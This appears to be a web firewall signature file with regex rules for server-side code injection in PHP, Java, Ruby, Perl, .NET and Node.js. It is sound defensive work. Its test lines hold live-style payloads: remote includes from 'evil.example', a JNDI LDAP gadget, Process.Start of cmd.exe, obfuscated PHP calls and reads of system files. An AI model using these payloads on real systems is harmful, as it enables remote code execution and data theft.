# Server-side code injection, language by language (ids 300005100-300005199): Java class and
# gadget names, serialized Java objects in base64, PHP function calls in every spelling PHP
# accepts (comments and white space before the parenthesis, variable functions, string-built
# names), PHP configuration directives, ORM lookup operators in parameter names.
# Format: see src/waf/signatures/db.rs. Pass examples are drawn from real traffic.

id: 300005100
name: Java code injection: process, runtime and gadget class names
type: Server Side Code Injection
accuracy: high
risk: high
systems: Java Servlets/JSP
targets: @values, header, url, param-name
unless: url, binary
literal: processbuilder
literal: runtime
literal: java.
literal: transformer
literal: closure
literal: factory
# The two public gadget-chain generators name their payload classes under their own package
# (`ysoserial.payloads.CommonsCollections5`): a value naming one is a chain being sent.
literal: ysoserial
literal: marshalsec
regex: \bprocessbuilder\b|\bjava\.(?:[\w$]+\.){0,4}(?:runtime|processbuilder|processimpl|unixprocess|scriptengine\w*|urlclassloader|classloader|jndi\w*|methodhandles?)\b|\b(?:clone|instantiate|invoker|chained|constant|prototypeclone|prototypeserialization|map|lazy)transformer\b|\b(?:while|for|if|switch|transformer|not|and|or)closure\b|\b(?:instantiate|prototypeclone|prototypeserialization|constant|invoker)factory\b|\bjava\.lang\.(?:reflect|invoke)\.|\b(?:ysoserial|marshalsec)\.\w
test: java.Runtime
test: java.evil.runtime
test: ProcessBuilder.evil.clonetransformer
test: java.ProcessBuilder
test: org.apache.commons.collections.functors.InvokerTransformer
test: ysoserial.payloads.CommonsCollections1
test: marshalsec.jndi.LDAPRefServer
pass: how to build ysoserial from source
pass: Java runtime environment download
pass: runtime error in module
pass: https://docs.oracle.com/javase/8/docs/api/java/lang/ProcessBuilder.html

id: 300005101
name: Java deserialization: serialized object stream in base64 or hex
type: Server Side Code Injection
accuracy: high
risk: high
systems: Java Servlets/JSP
targets: @values, header, url, param-name
literal: ro0ab
literal: kztaau
literal: cs7qaf
literal: aced0005
literal: \xac\xed\x00\x05
regex: (?-i:rO0AB|KztAAU|Cs7QAF)|(?i:\baced0005[0-9a-f]{4})|\xac\xed\x00\x05
test: \xac\xed\x00\x05sr\x00\x11java.util.HashMap\x05\x07\xda\xc1\xc3\x16\x60\xd1\x03\x00\x02F\x00\x0aloadFactorI\x00\x09thresholdxp?@\x00\x00
test: rO0ABQ
test: KztAAU
test: Cs7QAF
test: aced00057372
pass: ro0abc is a username
pass: Jcs7qafx

id: 300005102
name: PHP code injection: dangerous function called, however spelt
type: Server Side Code Injection
accuracy: high
risk: high
systems: PHP
targets: @values, header, url, param-name
unless: binary
literal: system
literal: exec
literal: passthru
literal: popen
literal: proc_open
literal: pcntl_exec
literal: assert
literal: eval
literal: create_function
literal: call_user_func
literal: preg_replace
literal: file_get_contents
literal: file_put_contents
literal: fopen
literal: readfile
literal: show_source
literal: highlight_file
literal: phpinfo
literal: base64_decode
literal: gzinflate
literal: str_rot13
literal: unserialize
literal: include
literal: require
literal: unpack
literal: strip_tags
literal: intval
literal: printf
literal: filegroup
literal: fileowner
literal: fputs
literal: fwrite
literal: symlink
literal: chmod
literal: putenv
literal: ini_set
literal: mail
literal: move_uploaded_file
literal: array_map
literal: usort
literal: ob_start
literal: get_defined
literal: gethostbyname
literal: dl(
# File removal and listing, hex decoding, sockets and reads: what a payload calls once the
# command functions are filtered (`unlink('index.php')`, `scandir('/')`, `hex2bin('6964')`).
literal: unlink
literal: rmdir
literal: hex2bin
literal: scandir
literal: opendir
literal: parse_ini_file
literal: curl_exec
literal: stream_socket_client
literal: socket_create
literal: fread
literal: fgets
literal: chown
literal: file
regex: \b(?:system|exec|shell_exec|passthru|popen|proc_open|pcntl_exec|assert(?:_options)?|eval|create_function|call_user_func(?:_array)?|preg_replace(?:_callback)?|file_get_contents|file_put_contents|fopen|fsockopen|readfile|show_source|highlight_file|phpinfo|phpversion|php_uname|base64_decode|gzinflate|gzuncompress|str_rot13|unserialize|include(?:_once)?|require(?:_once)?|unpack|strip_tags|intval|filegroup|fileowner|fileperms|fputs|fwrite|symlink|chmod|putenv|ini_set|ini_get|move_uploaded_file|array_map|array_filter|usort|uasort|ob_start|get_defined_vars|get_defined_functions|gethostbyname|getenv|dl|file|unlink|rmdir|hex2bin|scandir|opendir|parse_ini_file|curl_exec|stream_socket_client|socket_create|fread|fgets|chown)(?:\s{2,}|[\t\r\n]\s*|\s*/\*.*?\*/\s*|\s*//[^\n]*\n\s*|\s*#[^\n]*\n\s*)*\((?:\s*\)|\s*[$'"`(\[@]|\s*\w+\s*(?:[^\w\s:]|$)|\s*\w+\s+\w)|\b(?:assert(?:_options)?|eval|system|exec|phpinfo|unserialize|file|unpack|strip_tags)\s+\(\s*\)|\bs?printf\s*\(\s*[$\w]|\b(?:include|require)(?:_once)?\s*(?:\(\s*['"]?|['"])\s*(?:https?|ftps?|php|data|expect|zip|phar|file)://|(?:\(\s*['"]?|['"])\s*(?:system|exec|shell_exec|passthru|popen|proc_open|pcntl_exec|assert|eval|create_function|call_user_func(?:_array)?|phpinfo|show_source|highlight_file|readfile|file_get_contents|file_put_contents|base64_decode|unserialize|gzinflate|str_rot13)(?:\s*['"])?\)?\(|\[\s*['"]\s*(?:system|exec|shell_exec|passthru|popen|proc_open|pcntl_exec|assert|eval|create_function|call_user_func(?:_array)?|phpinfo|readfile|file_get_contents|file_put_contents)\s*['"]\s*\]\s*\)?\s*(?:\[\s*\d+\s*\]\s*)+\(
test: system(whoami)
test: exec  (blah)
test: exec //comment\n (blah)
test: exec #comment\n (blah)
test: FILE\r\n()
test: unpack()
test: unlink('index.php')
test: scandir("/")
test: hex2bin("6964")
pass: unlink (verb) means to remove a link
test: printf(foo)
test: phpinfo(foo)
test: assert_OptionS (\n\n)
test: (exec)(id)
test: include('http://evil.example/x.txt')
test: require_once "ftp://203.0.113.9/a.php";
pass: please include https://example.com in the list
test: ("passthru ")("id")
test: return'shell_exec'($c).x
test: (['assert'])[0]($_POST[1]);
test: ["readfile"][0]('/etc/hosts')
pass: the (system) works (mostly)
pass: "eval" (the keyword) is discouraged
pass: the system (as a whole) works
pass: include (optional) extras
pass: printf-style format strings
pass: bookmarked @include(if: $loggedIn)
pass: int main()\r\n{\r\n    printf("hello, world\\n");\r\n}

id: 300005103
name: PHP code injection: variable function and variable variable calls
type: Server Side Code Injection
accuracy: high
risk: high
systems: PHP
targets: @values, header, url, param-name
unless: binary
# `$ name` is not PHP (a variable name follows its `$` directly, only `{` may be spaced off):
# it is TeX math in Markdown (`$ \mu(n) $`), which maths sites post whole.
literal: $
regex: @?\$+(?:[a-z_\x7f-\xff][\w\x7f-\xff]*|\s*\{[^}]{0,60}\})(?:\s*(?:\[(?:[^\[\]]|\[[^\[\]]{0,20}\]){0,40}\]|\{[^}]{0,40}\}|->\s*\$?\w+|/\*.*?\*/|//[^\n]*\n|#[^\n]*\n))*\s*\((?:\s*\)|\s*[\d'"$@_]|\s*\w+\s*\))|\b\w+\s*::\s*\$\w+\s*\(|\$\s*\{\s*(?:['"]|\$|@)|\$\s+\{\s*[$'"\w]
test: $a(1)
test: $$b(2)
test: @$__[o](4)
test: $__['o'](5)
test: $__[$_[1]](7)
test: $f[$k['n']]('id')
test: ${'a'}(11)
test: $GLOBALS['cf908275'](14)
test: $OOO000000{0}(15)
test: $_aB_4c[5]['d'] /*lol*/ (17)
test: ${$foo->bar}(200)
test: $foo->$funcname()
test: Foo::$variable()
test: $a //x\n()
test: ${'ff'}
test: $ {'fdf'}
pass: price $5 (five dollars)
pass: $(document).ready(function() {})
pass: Hello ${name}, welcome
pass: | Möbius function | $ \\mu(n) $ | $ 1, -1, -1, 0, -1 $ | Multiplicative |
pass: $$ e^x = \\lim_{n \\to \\infty} \\left( 1+ \\frac{x}{n} \\right)^n. $$

id: 300005104
name: PHP code injection: function name built from strings or brackets, then called
type: Server Side Code Injection
accuracy: medium
risk: high
systems: PHP
targets: @values, header, url, param-name
unless: binary
literal: (
regex: \(\s*(?:/\*.*?\*/\s*)*(?:['"]?[a-z_]\w*['"]?|[\w'"]+\s*\.\s*\(?[\w'"]+\)?(?:\s*\.\s*[\w'"]+)*)\s*(?:/\*.*?\*/\s*)*\)\s*(?:/\*.*?\*/\s*)*\(\s*(?:['"@$]|\w+\s*(?:/\*.*?\*/\s*)*\)\s*;)|['"][a-z_]\w*['"]\s*\(\s*(?:['"$@]|\w+\s*\)\s*;)|\[\s*['"]?[a-z_]\w*['"]?\s*\]\s*(?:\[\s*\d+\s*\]\s*)+\(\s*['"]?\w|['"]\w+['"]\s*\.\s*['"]\w+['"]\s*(?:\.\s*['"]\w+['"]\s*)*[;)]|\(\s*string\s*\)\s*(?:["'{])|\bdefine\s*\(\s*['"]\w+['"]\s*,\s*\[*\s*['"]\w+['"]\s*\.
test: (system)('uname') ;
test: (sy.(st).em)('uname');
test: (string)"system"('uname');
test: [system][0](ls);
test: "system"(ls);
test: $y = 'sys'.'tem';($y)('uname');
test: define('x', 'sys' . 'tem');(x)/* comment */('uname');
pass: (see below) (page 2)
pass: call me (maybe) (tonight)

id: 300005105
name: PHP configuration directive set through a value
type: Server Side Code Injection
accuracy: high
risk: high
systems: PHP
targets: @values, header, param-name
unless: binary
literal: opcache.
literal: mbstring.
literal: session.
literal: zend.
literal: xdebug.
literal: pcre.
literal: phar.
literal: allow_url_
literal: auto_prepend_file
literal: auto_append_file
literal: disable_functions
literal: open_basedir
literal: extension_dir
literal: memory_limit
literal: max_execution_time
literal: upload_tmp_dir
literal: include_path
literal: sendmail_path
literal: unserialize_max_depth
literal: error_log
literal: register_globals
literal: safe_mode
regex: \b(?:(?:opcache|mbstring|session|zend|xdebug|pcre|phar|mysqli|pdo_mysql|assert|apc|filter|suhosin)\.[a-z_]+|allow_url_(?:fopen|include)|auto_(?:prepend|append)_file|disable_(?:functions|classes)|open_basedir|extension_dir|memory_limit|max_execution_time|upload_tmp_dir|include_path|sendmail_path|unserialize_max_depth|error_log|register_globals|safe_mode|enable_dl|short_open_tag|display_errors|log_errors)\s*=
test: opcache.jit_max_polymorphic_calls=50
test: memory_limit = 512M
test: extension_dir=/path/to/example
test: auto_prepend_file=php://input
pass: memory limit is 512M
pass: session id expired

id: 300005106
name: ORM query injection: lookup operator in a parameter name
type: Injection Attempt
accuracy: medium
risk: medium
targets: param-name
unless: binary
literal: __
regex: [a-z\d]__(?:i?(?:startswith|endswith|contains|exact|regex)|gte?|lte?|in|isnull|range|has_keys?|has_any_keys|contained_by|overlap|search|trigram_similar|unaccent)$
test: username__startswith
test: created_by__departments__employees__user__username__startswith
test: balance__gte
test: roles__contained_by
pass: __VIEWSTATE
pass: utm__source_id

id: 300005107
name: Drupal render-array injection: callback property in a parameter name
type: Server Side Code Injection
accuracy: high
risk: high
systems: PHP
targets: param-name, json, param-value
unless: binary
literal: #
regex: (?:^|\[|/)\s*#(?:post_render|pre_render|lazy_builder|access_callback|value_callback|after_build|element_validate|process)\s*(?:\]|$|/)
test: mail[#post_render][]
test: name[#lazy_builder][0]
test: account/mail/#pre_render
test: #access_callback
pass: mail[#value]
pass: filter[#tag]
pass: section#process-overview
pass: https://example.com/docs#post_render

id: 300005108
name: PHP configuration directive at the start of a value or line (php.ini, .user.ini, php-cgi -d)
# The core directives whose names are ordinary words (`engine`, `extension`, `precision`,
# `SMTP`) are only read as a directive where an ini file or a `-d` switch would hold one: at the
# start of the value, of a line, or after `-d`; 300005105 covers the names no prose uses. Not the
# whole query string or a header, whose own `name=value` pairs start the same way.
type: Server Side Code Injection
accuracy: medium
risk: high
systems: PHP
targets: param-value, cookie, json, xml
unless: binary
literal: engine
literal: extension
literal: precision
literal: smtp
literal: sendmail_from
literal: expose_php
literal: file_uploads
literal: upload_max_filesize
literal: post_max_size
literal: max_input_
literal: output_handler
literal: output_buffering
literal: variables_order
literal: request_order
literal: user_ini.
literal: doc_root
literal: user_dir
literal: cgi.
literal: html_errors
literal: error_reporting
literal: default_charset
literal: mail.
literal: highlight.
literal: implicit_flush
literal: arg_separator.
literal: enable_post_data_reading
literal: auto_detect_line_endings
regex: (?:^|[\r\n;]|(?:^|\s)-d\s*)\s*(?:engine|(?:zend_)?extension|precision|serialize_precision|smtp|smtp_port|sendmail_from|expose_php|file_uploads|upload_max_filesize|post_max_size|max_input_(?:vars|time|nesting_level)|output_(?:handler|buffering)|variables_order|request_order|user_ini\.filename|doc_root|user_dir|cgi\.[a-z_]+|fastcgi\.[a-z_]+|html_errors|error_reporting|default_charset|mail\.[a-z_]+|highlight\.[a-z]+|implicit_flush|arg_separator\.(?:input|output)|enable_post_data_reading|auto_detect_line_endings)\s*=\s*\S
test: engine=true
test: extension=/tmp/evil.so
test: precision = 17
test: SMTP=evil.example
test: -d output_handler=system -d precision=1
test: a=1\nuser_ini.filename=x
pass: engine type=diesel
pass: the extension=.pdf is allowed
pass: precision engineering


id: 300005301
name: PHP code injection: call of a function of PHP's own extension families
type: Server Side Code Injection
accuracy: medium
risk: high
systems: PHP
# Names under these prefixes belong to PHP's standard extensions (arrays, dates, regular
# expressions, streams, process control, resolvers); no other language or prose writes them
# followed by an argument list, so the call is code handed to `eval`, `assert` or a callback,
# whatever the function's own risk.
targets: @values, header, url, param-name
unless: binary
literal: array_
literal: date_
literal: preg_
literal: ctype_
literal: posix_
literal: pcntl_
literal: stream_
literal: gethostby
literal: str_
literal: func_get_arg
literal: mysqli_
literal: get_defined_
literal: htmlspecialchars
literal: highlight_
literal: show_source
literal: php_uname
literal: phpversion
regex: (?:^|[^\w$.>:])(?:array_(?:diff|filter|map|walk|reduce|merge|keys|values|search|slice|splice|pop|push|shift|unshift|flip|fill|combine|intersect|key_exists|column|rand|reverse|sum|product|unique|chunk|pad|replace)\w*|date_(?:add|sub|create|diff|format|parse|default_timezone_\w+|interval_\w+|modify|set\w*|sun\w*|time\w*)|preg_\w+|ctype_\w+|posix_\w+|pcntl_\w+|stream_\w+|gethostby(?:name|namel|addr)|str_(?:replace|ireplace|repeat|rot13|split|pad|shuffle|word_count|getcsv)|func_get_args?|mysqli_\w+|get_defined_(?:vars|functions|constants)|htmlspecialchars\w*|highlight_(?:file|string)|show_source|php_uname|phpversion)\s*\(
test: array_diff (
test: date_ADD()
test: gethostbynamE(
test: ;preg_match('/x/e', $_GET[0]);
test: x=array_map('system', ['id'])
test: php_uname()
pass: thumb_array_diff(
pass: config.array_map
pass: date_added=2024-01-02
pass: array_diff is a PHP function

id: 300005701
name: Java code injection: a class an exploit loads, named by its package
# Deserialization gadgets, expression-language payloads and polymorphic JSON (`"@type"`) name
# the classes they instantiate in full: process and class-loading classes of `java.lang`, streams
# and files of `java.io`, sockets and URLs, `XMLDecoder`, script and naming engines, the Spring
# contexts that load a bean file from a URL, Groovy and BeanShell interpreters, Commons
# Collections and BeanUtils, Struts, pooled data sources that open a JNDI or JDBC URL. Real
# values carry such names only in stack traces (exceptions, `Thread.run`), which are left out.
type: Server Side Code Injection
accuracy: high
risk: high
systems: Java Servlets/JSP
targets: @values, header, url, param-name
unless: url, binary
literal: java.
literal: javax.
literal: org.apache.
literal: org.springframework.
literal: org.codehaus.
literal: groovy.lang.
literal: bsh.
literal: org.mozilla.
literal: sun.rmi.
literal: com.sun.
literal: org.omg.
literal: com.opensymphony.
literal: com.mchange.
literal: ch.qos.
literal: org.hibernate.
literal: com.zaxxer.
literal: freemarker.template.
literal: org.yaml.snakeyaml
literal: com.thoughtworks.xstream
regex: \b(?:java\.(?:lang\.(?:(?:Process(?:Builder|Impl|Handle)?|Runtime|System|ClassLoader|Class)\b|reflect\.|invoke\.)|io\.(?:File(?:InputStream|OutputStream|Reader|Writer|Permission)?|\w*(?:Stream|Reader|Writer))\b|net\.(?:URL\w*|\w*Socket|InetAddress)\b|beans\.XMLDecoder|rmi\.|nio\.file\.)|javax\.(?:script|naming|management|el)\.|org\.apache\.(?:commons\.(?:collections|beanutils|io|configuration|fileupload)\d?|struts2?\.|xbean\.|tomcat\.dbcp|xalan|myfaces|log4j\.)|org\.springframework\.(?:context\.support|beans\.factory\.config|expression)|org\.codehaus\.groovy\.runtime|groovy\.lang\.(?:GroovyShell|GroovyClassLoader|Script)|bsh\.(?:Interpreter|XThis)|org\.mozilla\.javascript\.|sun\.rmi\.|com\.sun\.(?:rowset|jndi|org\.apache)|org\.omg\.CORBA|com\.opensymphony\.xwork2|com\.mchange\.v2\.c3p0|ch\.qos\.logback\.core\.db|org\.hibernate\.jmx|com\.zaxxer\.hikari|freemarker\.template\.utility\.|org\.yaml\.snakeyaml|com\.thoughtworks\.xstream)
test: org.springframework.context.support.ClassPathXmlApplicationContext
test: groovy.lang.GroovyShell
test: freemarker.template.utility.Execute
test: {"@type":"com.zaxxer.hikari.HikariConfig","metricRegistry":"ldap://evil.example/a"}
test: java.lang.Process
test: org.apache.commons.io.IOUtils
pass: https://govuln.com/docs/java-things/
pass: Java runtime environment download
pass: https://docs.oracle.com/javase/8/docs/api/java/lang/ProcessBuilder.html
pass: java.lang.RuntimeException: java.io.FileNotFoundException: /data/app.log

id: 300005702
name: Ruby code injection: command literals, Kernel and Open3 calls, dynamic dispatch, YAML object tags
# Ruby runs a command from `%x(...)` (backticks under another name), `Kernel.exec`/`system`/
# `spawn`/`open("|cmd")`, `IO.popen` and `Open3`; reaches a method by name with `send(:system`,
# evaluates strings with `instance_eval`/`class_eval`, turns a string into a class with
# `constantize`, and `Marshal.load` and `YAML.load` build any object from data (`!ruby/object:`
# tags name the class, as the Rails gadget chains do).
type: Server Side Code Injection
accuracy: high
risk: high
targets: @values, header, url, param-name
unless: binary
literal: %x
literal: kernel
literal: open3
literal: popen
literal: send
literal: _eval
literal: constantize
literal: marshal
literal: !ruby/
literal: yaml
regex: %x\s*[({\[<]|\bkernel\s*\.\s*(?:exec|system|spawn|open|fork|eval|syscall|`)|\bopen3\s*\.\s*(?:popen[23e]?|capture[23e]?|pipeline\w*)\b|\bio\s*\.\s*popen\b|\b(?:public_send|__send__|send)\s*\(?\s*:\s*(?:system|exec|spawn|eval|instance_eval|class_eval|popen|open|syscall|`)|\b(?:instance|class|module)_eval\s*[({'"]|\.\s*constantize\b|\bmarshal\s*\.\s*(?:load|restore)\s*\(|!ruby/(?:object|hash|struct|sym|class|module|regexp|range|exception|array|string)\b|\byaml\s*\.\s*(?:unsafe_)?load\s*\(
test: %x(id)
test: Kernel.exec("id")
test: Open3.capture2("id")
test: send(:system,"id")
test: "id".constantize
test: --- !ruby/object:Gem::Installer
test: instance_eval("`id`")
pass: ecs2;aliyun/buy-ecs2;aliyun-ecs/ecs-console-wind;aliyun/buy-kernel;aliyun/buy-ecs;dt/tracker
pass: kernel
pass: send the report to kernel team

id: 300005703
name: Perl code injection: code interpolated into a string, qx command literals
# Perl runs code inside a string through an array or scalar reference that is dereferenced in
# place, `@{[ system "id" ]}` and `${\ `id` }`, and runs a command from `qx(...)`, backticks under
# another name.
type: Server Side Code Injection
accuracy: high
risk: high
targets: @values, header, url, param-name
unless: binary
literal: @{
literal: ${\\
literal: qx
regex: @\{\s*\[[\s\S]{0,200}?\]\s*\}|\$\{\s*\\\s*(?:`|qx\b|system\b|exec\b|do\b|eval\b|open\b|readpipe\b)|\bqx\s*[({\[<|!]
test: @{[system "id"]}
test: @{[ `id` ]}
test: ${\\ `id`}
test: qx(id)
# Layout tokens in real bodies hold `qx/`, a sensor blob holds `@{` with punctuation after it.
pass: i/qr/qr/qr/qr/qs/qs+qu/2t//@j/@1d/@p/1/@i/qu/qu/qu/qv/qv/qv+qx/2u//@j/@1e/@p/1/@i/qx/qx/qx/qx/qx/qy
pass: iAAovI#L%(@sLV[~?nA @{1ZlnI&BO(?:pvRN|w@~)9%Vlzm3&m

id: 300005704
name: Node.js denial of service: a loop that never ends, handed to an evaluating server
# Node.js runs every request on one thread: a value evaluated as JavaScript (`eval`, `vm`, a
# template) that loops forever stops the server. The loop's condition is a constant or its
# negation (`while(true)`, `while(!0)`, `while(!false)`), a value JavaScript reads as true (a
# non-zero number, `Infinity`, a non-empty string, an object, an array, `this`, a new object),
# or `for(;;)`.
type: Server Side Code Injection
accuracy: high
risk: high
systems: Node.js
targets: @values, header, url, param-name
unless: binary
literal: while
literal: ;;
regex: \bwhile\s*\(\s*(?:!+\s*(?:0|false|null|undefined|nan|''|""|\[\s*\])|!!\s*\w+|true|[1-9]\d*|infinity|this|new\s+[a-z_$][\w$]*(?:\s*\(\s*\))?|\{\s*\}|\[\s*\]|"[^"\n]+"|'[^'\n]+'|`[^`\n]+`)\s*\)|\bfor\s*\(\s*;\s*;\s*\)
test: while(!0){}
test: while("x"){}
test: while(Infinity)x++
test: while([]){}
test: while({}){}
test: while(new Date){}
test: while(this);
test: while (!false) {}
test: for(;;){}
test: while(1);
# JavaScript posted by a code-sharing page: a loop with a real condition.
pass:     while (idx < this.length)
pass: ;route_index_index_路径;;;;;browserInfo_chrome114.0_浏览器信息

id: 300005705
name: PHP code injection: legacy superglobals, or a superglobal as the whole value
# PHP's long-form request arrays (`$HTTP_GET_VARS`, `$HTTP_POST_VARS`, `$HTTP_RAW_POST_DATA`,
# ...) appear in no prose; a superglobal (`$_COOKIE`, `$GLOBALS`) that is a whole value on its
# own is a probe of an evaluating parameter. In a sentence the short names stay allowed.
type: Server Side Code Injection
accuracy: high
risk: high
systems: PHP
targets: @values, header, url, param-name
unless: binary
literal: $http_
literal: $_
literal: $globals
# `$GLOBALS` handed whole to a call (`print_r($GLOBALS)`) or a superglobal interpolated in braces
# (`{$_POST}`, `{$GLOBALS[...]}`) is code as well; prose names `$GLOBALS` without either.
regex: \$http_(?:get|post|cookie|server|env|session|post_files|request)_vars\b|\$http_raw_post_data\b|^\s*['"]?\s*\$(?:_(?:get|post|request|cookie|server|files|env|session)|globals)\s*['"]?\s*;?\s*$|\(\s*\$globals\s*\)|\{\s*\$(?:_(?:get|post|request|cookie|server|files|env|session)|globals)\s*[}\[]
test: print_r($GLOBALS)
test: {$_POST}
test: {$GLOBALS['x']}
test: $HTTP_RAW_POST_DATA
test: $HTTP_GET_VARS['x']
test: $HTTP_SERVER_VARS
test: $_COOKIE
test: $GLOBALS;
pass: $GLOBALS is PHP's array of globals
pass: \x13\r\n\x11safeline.com\x10\x14\x10\x17\x18\x02"&\r\n$https://safeline.com/app/radar/(\x03(\x02

id: 300005706
name: PHP code injection: a high-risk PHP function named, called or not
# Code that builds a call at run time names the function as a string (`call_user_func`,
# `array_map`, a callback parameter), and a probe sends the name alone: the names below run
# commands, decode hidden code, read and write files or open sockets, and no text uses them.
type: Server Side Code Injection
accuracy: high
risk: high
systems: PHP
targets: @values, header, param-name
unless: binary, url
literal: __halt_compiler
literal: apache_child_terminate
literal: base64_decode
literal: bzdecompress
literal: call_user_func
literal: call_user_method
literal: convert_uudecode
literal: file_get_contents
literal: file_put_contents
literal: fsockopen
literal: get_class_methods
literal: get_class_vars
literal: get_defined_
literal: gzdecode
literal: gzinflate
literal: gzuncompress
literal: include_once
literal: invokeargs
literal: pcntl_
literal: pfsockopen
literal: posix_
literal: reflectionfunction
literal: require_once
literal: shell_exec
literal: str_rot13
literal: sys_get_temp_dir
literal: wp_remote_
literal: wp_safe_remote_
literal: zlib_decode
literal: phpinfo
literal: proc_open
literal: passthru
literal: create_function
literal: move_uploaded_file
regex: \b(?:__halt_compiler|apache_child_terminate|base64_decode|bzdecompress|call_user_func(?:_array)?|call_user_method(?:_array)?|convert_uudecode|file_(?:get|put)_contents|p?fsockopen|get_class_(?:methods|vars)|get_defined_(?:constants|functions|vars)|gz(?:decode|inflate|uncompress)|(?:include|require)_once|invokeargs|pcntl_(?:exec|fork|signal|alarm)|posix_(?:getcwd|getpwuid|getuid|uname|kill|setuid|mkfifo)|reflectionfunction|shell_exec|str_rot13|sys_get_temp_dir|wp_(?:safe_)?remote_(?:fopen|get|head|post|request)|zlib_decode|phpinfo|proc_open|passthru|create_function|move_uploaded_file)\b
test: phpinfo
test: shell_exec
test: x=base64_decode
test: call_user_func_array
test: create_function
test: move_uploaded_file
test: eval(gzinflate(str_rot13('x')))
pass: qbase64
pass: /system/resource/js/base64.js
pass: https://tool.jisuapi.com/base642pic.html

id: 300005501
name: PHP code injection: a superglobal handed to a function, or code spelt by XOR of strings
# A request array passed whole to a call (`extract($_GET)`, `assert($_POST)`, `parse_str($_COOKIE)`)
# turns every parameter into code or variables; no prose writes `($_` followed by a superglobal's
# name. Code without letters is built by XOR of a variable with short quoted strings
# (`$_=($_^"<").($_^">;")`): no text holds a `$` variable XORed with a quoted literal.
type: Server Side Code Injection
accuracy: high
risk: high
systems: PHP
targets: @values, header, param-name
unless: binary
literal: $_
literal: ^"
literal: ^'
literal: ^ "
literal: ^ '
regex: \(\s*\$_(?:get|post|request|cookie|files|server|env|session)\b|\$\w*\s*\^\s*(?:"[^"\s]{1,4}"|'[^'\s]{1,4}')
test: extract($_GET)
test: parse_str( $_COOKIE );
test: $_=($_^"<").($_^">;").($_^"/");
test: $a^'{{'
pass: value ^ "x" is the superscript in our markup
pass: ($_ is the default variable in Perl)
pass: price (USD) ^ 2

id: 300005502
name: .NET code execution: a runtime type an exploit reaches for, called statically or from a template
# PowerShell calls .NET statically (`[System.Diagnostics.Process]::Start('calc')`,
# `[IO.File]::ReadAllText`, `[Reflection.Assembly]::Load`) and Razor templates reach the same
# types through `@System.Diagnostics.Process.Start(...)`: a process, a file, an assembly, a
# web client or the environment, named in a value with the call that uses it. Type names in
# documentation searches lack the `]::` or the leading `@` and call.
type: Server Side Code Injection
accuracy: high
risk: high
systems: Microsoft Windows
targets: @values, header, param-name
unless: binary
literal: ]::
literal: ] ::
literal: @system.
literal: @(system.
regex: \[\s*(?:system\.)?(?:diagnostics\.process(?:startinfo)?|io\.(?:file|directory|streamreader|streamwriter)|reflection\.assembly|net\.(?:webclient|sockets\.tcpclient|webrequest|dns)|runtime\.interopservices\.marshal|environment|activator|appdomain|management\.automation\.[\w.]+)\s*\]\s*::\s*\w+|@\(?\s*system\s*\.\s*(?:diagnostics\s*\.\s*process|io\s*\.\s*file|io\s*\.\s*directory|reflection\s*\.\s*assembly|net\s*\.\s*webclient|environment)\s*\.\s*\w+\s*\(
test: ;[System.Diagnostics.Process]::Start('calc')
test: [IO.File]::ReadAllText('c:\\windows\\win.ini')
test: [Reflection.Assembly]::Load($b)
test: @System.Diagnostics.Process.Start("cmd.exe","/c id")
test: @(System.IO.File.ReadAllText("web.config"))
pass: [System.Diagnostics.Process] class reference
pass: System.Diagnostics.Process.Start docs
pass: @@container(#new-warning-module)[u8sTzuXkzrpBUgtYOdTUP]/DESCRIBE_EVENT_

id: 300005503
name: JavaScript prototype pollution: a JSON key path through `__proto__` or `constructor.prototype`
# A deep merge or `set(obj, path, value)` walks a JSON document's keys as a path: `{"a":
# {"constructor":{"prototype":{"isAdmin":true}}}}` writes into every object's prototype,
# although neither key is suspect alone. The engine scans each key joined to its parent
# object's key (`constructor.prototype`); real key paths only hold the words inside longer names
# (`experiments.statsig-formulas_prototype`).
type: Server Side Code Injection
accuracy: high
risk: high
systems: Node.js
targets: key-path
literal: prototype
literal: __proto__
regex: (?:^|\.)(?:__proto__|constructor\.prototype)(?:\.|$)
test: constructor.prototype
test: a.__proto__
test: __proto__.isAdmin
pass: experiments.statsig-formulas_prototype
pass: timingDetail.nextHopProtocol
pass: prototype.name
